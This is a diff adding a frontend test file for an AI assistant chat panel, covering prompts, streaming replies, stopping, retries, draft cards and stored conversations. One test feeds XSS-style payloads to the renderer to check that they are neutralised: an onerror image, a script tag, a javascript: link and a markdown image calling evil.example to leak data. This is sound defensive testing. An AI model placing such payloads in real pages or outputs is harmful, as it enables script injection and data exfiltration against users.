@@ -1,0 +1,260 @@
+import { cleanup, screen, waitFor, within } from '@testing-library/react';
+import { afterEach, beforeEach, expect, test, vi } from 'vitest';
+import { currentUser } from '#domain/accounts/contract.ts';
+import {
+  chat,
+  CHAT_FAILURE,
+  getAssistant,
+  SUGGESTED_PROMPTS,
+  type ProposedPost,
+} from '#domain/assistant/contract.ts';
+import { encodeEvent, type ChatEvent } from '#domain/assistant/stream.ts';
+import { mockApi, Refusal, type MockApi } from '#tests/support/mock-api.ts';
+import { showScreen } from '#tests/support/screen.tsx';
+import { ChatPanel } from './chat-panel.tsx';
+import { ChatView } from './chat-view.tsx';
+
+let api: MockApi;
+let people = 0;
+const olive = () => ({
+  id: `user-${people}`,
+  email: 'olive@agency.example',
+  phone: '+15550000001',
+  firstName: 'Olive',
+  lastName: 'Owner',
+  profileImageUrl: null,
+  timeZone: null,
+  createdAt: '2026-01-01T00:00:00.000Z',
+});
+
+beforeEach(() => {
+  people += 1;
+  api = mockApi();
+  api.on(currentUser, olive());
+  api.on(getAssistant, { model: null });
+});
+afterEach(() => {
+  cleanup();
+  localStorage.clear();
+  expect(api.unplanned).toEqual([]);
+  vi.unstubAllGlobals();
+});
+
+const field = () => screen.getByRole<HTMLTextAreaElement>('textbox', { name: 'Message about Acme' });
+const says = (message: string, proposals: ProposedPost[] = []) => ({ message, proposals });
+
+/** A reply that comes when the test lets it. */
+function streaming() {
+  let line: ReadableStreamDefaultController<Uint8Array>;
+  let signal: AbortSignal | null | undefined;
+  const planned = fetch;
+  vi.stubGlobal('fetch', (input: string, init: RequestInit) => {
+    if (input !== chat.path) return planned(input, init);
+    signal = init.signal;
+    const body = new ReadableStream<Uint8Array>({ start: (controller) => void (line = controller) });
+    signal?.addEventListener('abort', () => line.error(new DOMException('stopped', 'AbortError')));
+    return Promise.resolve(new Response(body, { headers: { 'Content-Type': 'text/event-stream' } }));
+  });
+  return {
+    tell: (event: ChatEvent) => line.enqueue(new TextEncoder().encode(encodeEvent(event))),
+    end: () => line.close(),
+    isStopped: () => signal?.aborted === true,
+  };
+}
+
+test('it offers the four prompts, and the small panel two of them', async () => {
+  const { user, unmount } = showScreen(<ChatView company="Acme" />);
+  for (const name of SUGGESTED_PROMPTS) await screen.findByRole('button', { name });
+  unmount();
+  showScreen(<ChatPanel company="Acme" />);
+  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
+  screen.getByRole('button', { name: SUGGESTED_PROMPTS[0] });
+  screen.getByRole('button', { name: SUGGESTED_PROMPTS[1] });
+  expect(screen.queryByRole('button', { name: SUGGESTED_PROMPTS[2] })).toBeNull();
+});
+
+test('a prompt is sent with the company and answered', async () => {
+  const calls = api.on(chat, says('Post about **bread**.'));
+  const { user } = showScreen(<ChatView company="Acme" />);
+  await user.click(await screen.findByRole('button', { name: 'Caption ideas' }));
+  expect((await screen.findByText('bread')).tagName).toBe('STRONG');
+  expect(calls[0]?.body).toMatchObject({
+    companyName: 'Acme',
+    messages: [{ role: 'user', content: 'Caption ideas' }],
+  });
+});
+
+test('Enter sends, Shift+Enter breaks the line, blank is not sent', async () => {
+  const calls = api.on(chat, says('Yes.'));
+  const { user } = showScreen(<ChatView company="Acme" />);
+  await user.type(field(), '   {enter}');
+  expect(calls).toHaveLength(0);
+  await user.clear(field());
+  await user.type(field(), 'One{shift>}{enter}{/shift}two{enter}');
+  await screen.findByText('Yes.');
+  expect(calls[0]?.body.messages).toEqual([{ role: 'user', content: 'One\ntwo' }]);
+  expect(field().value).toBe('');
+});
+
+test('the next question carries what was said before', async () => {
+  const calls = api.on(chat, ({ body }) => says(`Answer ${body.messages.length}`));
+  const { user } = showScreen(<ChatView company="Acme" />);
+  await user.type(field(), 'First{enter}');
+  await screen.findByText('Answer 1');
+  await waitFor(() => expect(document.activeElement).toBe(field()));
+  await user.type(field(), 'Second{enter}');
+  await screen.findByText('Answer 3');
+  expect(calls[1]?.body.messages.map(({ content }) => content)).toEqual(['First', 'Answer 1', 'Second']);
+});
+
+test('while a reply is pending the input rests; its words appear as they come; done announces them once', async () => {
+  const reply = streaming();
+  const { user } = showScreen(<ChatView company="Acme" />);
+  await user.type(field(), 'Hello{enter}');
+  expect(field().disabled).toBe(true);
+  expect(screen.getByRole('status').textContent).toBe('The assistant is writing');
+  reply.tell({ type: 'text', text: 'Good ' });
+  await screen.findByText('Good');
+  reply.tell({ type: 'text', text: 'morning' });
+  await screen.findByText('Good morning');
+  expect(screen.getByRole('status').textContent).toBe('The assistant is writing');
+  expect(screen.queryByRole('button', { name: 'Copy' })).toBeNull();
+  reply.tell({ type: 'done' });
+  await waitFor(() => expect(field().disabled).toBe(false));
+  expect(screen.getByRole('status').textContent).toContain('Good morning');
+  screen.getByRole('button', { name: 'Copy' });
+  await waitFor(() => expect(document.activeElement).toBe(field()));
+});
+
+test('Stop keeps what was said and ends the request', async () => {
+  const reply = streaming();
+  const { user } = showScreen(<ChatView company="Acme" />);
+  await user.type(field(), 'Hello{enter}');
+  reply.tell({ type: 'text', text: 'Half a' });
+  await screen.findByText('Half a');
+  expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Stop' }));
+  await user.keyboard('{enter}');
+  await screen.findByText('You stopped this reply.');
+  expect(reply.isStopped()).toBe(true);
+  screen.getByText('Half a');
+  expect(screen.queryByText(CHAT_FAILURE)).toBeNull();
+});
+
+test('a failure appends the message, says why, and can be tried again', async () => {
+  api.on(chat, () => {
+    throw new Refusal(503, 'The assistant’s model cannot be reached right now.');
+  });
+  const { user } = showScreen(<ChatView company="Acme" />);
+  await user.type(field(), 'Hello{enter}');
+  await screen.findByText('Sorry, I encountered an error. Please try again.');
+  screen.getByText('The assistant’s model cannot be reached right now.');
+  const calls = api.on(chat, says('Now it works.'));
+  await user.click(screen.getByRole('button', { name: 'Try again' }));
+  await screen.findByText('Now it works.');
+  expect(screen.queryByText(CHAT_FAILURE)).toBeNull();
+  expect(calls[0]?.body.messages).toEqual([{ role: 'user', content: 'Hello' }]);
+});
+
+test.each([
+  ['an error event', { type: 'error', message: 'It broke off.' }],
+  ['a line that ends early', null],
+] as const)('%s keeps the words and appends the message', async (_, event) => {
+  const reply = streaming();
+  const { user } = showScreen(<ChatView company="Acme" />);
+  await user.type(field(), 'Hello{enter}');
+  reply.tell({ type: 'text', text: 'Half a' });
+  if (event) reply.tell(event);
+  reply.end();
+  await screen.findByText(CHAT_FAILURE);
+  screen.getByText('Half a');
+});
+
+const draft = { title: 'Oven at dawn', caption: 'The first bake.', companyName: 'Acme', date: '2026-11-24' };
+
+test('a proposed draft is a card; using it opens the wizard of its company', async () => {
+  api.on(chat, says('Here:', [draft]));
+  const { user, address } = showScreen(<ChatView company="Acme" />);
+  await user.type(field(), 'An idea{enter}');
+  const card = await screen.findByRole('article', { name: 'Draft: Oven at dawn' });
+  within(card).getByText('The first bake.');
+  within(card).getByText('Tue, Nov 24');
+  await user.click(within(card).getByRole('button', { name: 'Use as draft' }));
+  expect(address()).toBe('/dashboard?company=Acme&new=post');
+});
+
+test('what a model writes cannot run, load or lead anywhere unseen', async () => {
+  const evil = [
+    '<img src=x onerror="document.title=1">',
+    '![](https://evil.example/?leak=1)',
+    '[click](javascript:alert(1))',
+    '<script>document.title = 2</script>',
+    '[out](https://elsewhere.example) and [in](/post/7)',
+  ].join('\n\n');
+  api.on(chat, says(evil));
+  const { user } = showScreen(<ChatView company="Acme" />);
+  await user.type(field(), 'Hello{enter}');
+  const out = await screen.findByRole('link', { name: 'out' });
+  expect(out.getAttribute('rel')).toContain('noopener');
+  expect(screen.getByRole('link', { name: 'in' }).getAttribute('href')).toBe('/post/7');
+  expect(document.querySelector('img, script')).toBeNull();
+  expect(document.body.innerHTML).not.toContain('javascript:');
+});
+
+test('the conversation of each company is kept on this device until it is cleared', async () => {
+  api.on(chat, ({ body }) => says(`About ${body.companyName ?? 'all'}`));
+  const { user } = showScreen(<ChatView company="Acme" />);
+  await user.type(field(), 'Hello{enter}');
+  await screen.findByText('About Acme');
+  const [key] = Object.keys(localStorage);
+  const kept = localStorage.getItem(key ?? '');
+  cleanup();
+
+  // A new page knows only what is stored.
+  vi.resetModules();
+  const fresh = await import('./chat-view.tsx');
+  showScreen(<fresh.ChatView company="acme" />);
+  await screen.findByText('About Acme');
+  expect(localStorage.getItem(key ?? '')).toBe(kept);
+  cleanup();
+
+  showScreen(<ChatView company={null} />);
+  await screen.findByRole('button', { name: 'Caption ideas' });
+  expect(screen.queryByText('About Acme')).toBeNull();
+  cleanup();
+
+  vi.stubGlobal('confirm', () => true);
+  showScreen(<ChatView company="Acme" />);
+  await user.click(await screen.findByRole('button', { name: 'Clear conversation' }));
+  await screen.findByRole('button', { name: 'Caption ideas' });
+  expect(localStorage.getItem(key ?? '')).toBeNull();
+});
+
+test('the panel opens, fills the screen, shrinks and gives the focus back', async () => {
+  const { user } = showScreen(<ChatPanel company="Acme" />);
+  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
+  const panel = screen.getByRole('dialog', { name: 'Assistant' });
+  expect(document.activeElement).toBe(field());
+  expect(panel.getAttribute('aria-modal')).toBe('false');
+  await user.click(screen.getByRole('button', { name: 'Maximize' }));
+  expect(panel.getAttribute('aria-modal')).toBe('true');
+  screen.getByRole('button', { name: 'Content strategy' });
+  await user.click(field());
+  await user.keyboard('{Escape}');
+  expect(panel.getAttribute('aria-modal')).toBe('false');
+  await user.click(screen.getByRole('button', { name: 'Minimize' }));
+  expect(screen.queryByRole('dialog')).toBeNull();
+  expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Open assistant' }));
+});
+
+test('a reply goes on while the panel is minimised', async () => {
+  const reply = streaming();
+  const { user } = showScreen(<ChatPanel company="Acme" />);
+  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
+  await user.type(field(), 'Hello{enter}');
+  await user.click(screen.getByRole('button', { name: 'Minimize' }));
+  expect(reply.isStopped()).toBe(false);
+  reply.tell({ type: 'text', text: 'Still here' });
+  reply.tell({ type: 'done' });
+  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
+  await screen.findByText('Still here');
+});
